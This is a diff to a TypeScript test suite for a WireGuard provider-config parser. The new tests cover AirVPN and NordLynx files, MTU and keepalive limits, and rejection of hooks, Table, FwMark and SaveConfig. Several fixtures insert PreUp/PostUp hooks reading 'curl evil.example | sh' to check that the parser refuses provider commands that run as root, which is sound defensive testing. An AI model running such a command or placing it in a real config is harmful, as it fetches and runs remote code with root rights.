@@ -44,6 +44,24 @@ const PROTON = [
   "",
 ].join("\r\n");
 
+/**
+ * An AirVPN-style file: an MTU, a PSK, a keepalive, IPv6 entries. NordLynx
+ * exports also carry a ListenPort, which a VPN client does not need.
+ */
+const AIRVPN = `[Interface]
+Address = 10.167.34.5/32,fd7d:76ee:e68f:a993:1e3c:f0c3:4d2a:9f1b/128
+PrivateKey = ${PRIVATE}
+MTU = 1320
+DNS = 10.128.0.1, fd7d:76ee:e68f:a993::1
+
+[Peer]
+PublicKey = ${SERVER}
+PresharedKey = ${PSK}
+Endpoint = se3.vpn.example:1637
+AllowedIPs = 0.0.0.0/0,::/0
+PersistentKeepalive = 15
+`;
+
 function errorOf(text: string): string {
   try {
     parseProviderFile(text, PATH);
@@ -103,27 +121,142 @@ describe("parseProviderFile", () => {
     expect(vpn.allowedIPs).toEqual(["0.0.0.0/1", "128.0.0.0/1"]);
   });
 
+  it("takes an AirVPN-style file's MTU and PersistentKeepalive", () => {
+    const { vpn, warnings } = parseProviderFile(AIRVPN, PATH);
+    expect(vpn).toEqual({
+      privateKey: PRIVATE,
+      presharedKey: PSK,
+      address: "10.167.34.5/32",
+      dns: ["10.128.0.1"],
+      publicKey: SERVER,
+      endpoint: "se3.vpn.example:1637",
+      allowedIPs: ["0.0.0.0/0"],
+      mtu: 1320,
+      keepalive: 15,
+    });
+    expect(warnings).toHaveLength(3);
+  });
+
+  it("leaves out a NordLynx export's ListenPort with a warning, in line order", () => {
+    const nordlynx = MULLVAD.replace("[Interface]\n", "[Interface]\nListenPort = 51820\n").replace(
+      "Endpoint",
+      "PersistentKeepalive = 25\nEndpoint",
+    );
+    const { vpn, warnings } = parseProviderFile(nordlynx, PATH);
+    expect(vpn.keepalive).toBe(25);
+    expect(vpn.mtu).toBeUndefined();
+    expect(warnings).toEqual([
+      "line 2: ListenPort left out: a VPN client needs no fixed port (the server never connects first), so wgqt renders none",
+      "line 5: Address fc00:bbbb:bbbb:bb01::1:2/128 left out: wgqt routes IPv4 only",
+      "line 10: AllowedIPs ::0/0 left out: wgqt routes IPv4 only (block IPv6 on this machine if it must not leave unencrypted)",
+    ]);
+  });
+
+  it.each([
+    ["0", undefined],
+    ["off", undefined],
+    ["Off", undefined],
+    ["1", 1],
+    ["65535", 65535],
+  ])("reads PersistentKeepalive = %s as wg(8) does", (value, expected) => {
+    const { vpn } = parseProviderFile(AIRVPN.replace("= 15", `= ${value}`), PATH);
+    expect(vpn.keepalive).toBe(expected);
+  });
+
+  it.each([
+    ["576", 576],
+    ["1280", 1280],
+    ["9000", 9000],
+  ])("takes MTU = %s", (value, expected) => {
+    expect(parseProviderFile(AIRVPN.replace("MTU = 1320", `MTU = ${value}`), PATH).vpn.mtu).toBe(
+      expected,
+    );
+  });
+
   it("makes a bare address a /32", () => {
     expect(parseProviderFile(PROTON.replace("10.2.0.2/32", "10.2.0.2"), PATH).vpn.address).toBe(
       "10.2.0.2/32",
     );
   });
 
-  it.each([
+  it.each<[string, string, RegExp]>([
     [
-      "a setting wgqt does not import",
-      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nMTU = 1320"),
-      /^line 6: \[Interface\] MTU is not imported \(wgqt imports PrivateKey, Address and DNS .*\); remove the line and import again$/,
+      "a setting wgqt does not know",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nJc = 4"),
+      /^line 6: \[Interface\] Jc is not imported \(wgqt imports PrivateKey, Address, DNS and MTU from \[Interface\] and PublicKey, PresharedKey, Endpoint, AllowedIPs and PersistentKeepalive from \[Peer\]\); remove the line and import again$/,
     ],
     [
-      "PersistentKeepalive in the peer",
-      `${MULLVAD}PersistentKeepalive = 25\n`,
-      /^line 11: \[Peer\] PersistentKeepalive is not imported/,
+      "PersistentKeepalive in [Interface]",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nPersistentKeepalive = 25"),
+      /^line 6: \[Interface\] PersistentKeepalive is not imported/,
+    ],
+    ["MTU in [Peer]", `${MULLVAD}MTU = 1320\n`, /^line 11: \[Peer\] MTU is not imported/],
+    ...["PreUp", "PostUp", "PreDown", "PostDown", "postup"].map(
+      (hook): [string, string, RegExp] => [
+        `a ${hook} hook`,
+        MULLVAD.replace("[Peer]", `${hook} = curl evil.example | sh\n[Peer]`),
+        new RegExp(
+          `^line 7: \\[Interface\\] ${hook === "postup" ? "PostUp" : hook} is a hook, a command wg-quick\\(8\\) runs as root: wgqt runs no provider's commands .*; remove the line and import again$`,
+        ),
+      ],
+    ),
+    [
+      "Mullvad's kill-switch hooks",
+      MULLVAD.replace(
+        "[Peer]",
+        "PostUp = iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show  %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT\n[Peer]",
+      ),
+      /^line 7: \[Interface\] PostUp is a hook/,
     ],
     [
-      "hooks",
-      MULLVAD.replace("[Peer]", "PostUp = curl evil | sh\n[Peer]"),
-      /^line 7: \[Interface\] PostUp is not imported/,
+      "a Table",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nTable = off"),
+      /^line 6: \[Interface\] Table would fight wgqt's routing, which gives every tunnel its own table and fwmark .*; remove the line and import again$/,
+    ],
+    [
+      "an FwMark",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nFwMark = 0xca6c"),
+      /^line 6: \[Interface\] FwMark would fight wgqt's routing/,
+    ],
+    [
+      "SaveConfig",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nSaveConfig = true"),
+      /^line 6: \[Interface\] SaveConfig would have wg-quick\(8\) write the interface's state back over a file wgqt renders; remove the line and import again$/,
+    ],
+    [
+      "an MTU below IPv4's 576",
+      AIRVPN.replace("MTU = 1320", "MTU = 575"),
+      /^line 4: MTU: expected a whole number of bytes 576…9000, got "575"$/,
+    ],
+    [
+      "an MTU above 9000",
+      AIRVPN.replace("MTU = 1320", "MTU = 9001"),
+      /^line 4: MTU: expected a whole number of bytes 576…9000, got "9001"$/,
+    ],
+    [
+      "an MTU that is no number",
+      AIRVPN.replace("MTU = 1320", "MTU = 1320.5"),
+      /^line 4: MTU: expected a whole number of bytes 576…9000, got "1320\.5"$/,
+    ],
+    [
+      "a private key on the MTU line",
+      AIRVPN.replace("MTU = 1320", `MTU = ${PRIVATE}`),
+      /^line 4: MTU: expected a whole number of bytes 576…9000, got a value of 44 characters, not shown$/,
+    ],
+    [
+      "two MTUs",
+      AIRVPN.replace("MTU = 1320", "MTU = 1320\nMTU = 1280"),
+      /^line 5: a second MTU in \[Interface\] \(the first is on line 4\)$/,
+    ],
+    [
+      "a keepalive above 65535",
+      AIRVPN.replace("PersistentKeepalive = 15", "PersistentKeepalive = 65536"),
+      /^line 12: PersistentKeepalive: expected a whole number of seconds 0…65535 \(0 = off\), got "65536"$/,
+    ],
+    [
+      "a negative keepalive",
+      AIRVPN.replace("PersistentKeepalive = 15", "PersistentKeepalive = -1"),
+      /^line 12: PersistentKeepalive: expected a whole number of seconds 0…65535 \(0 = off\), got "-1"$/,
     ],
     [
       "a second peer",
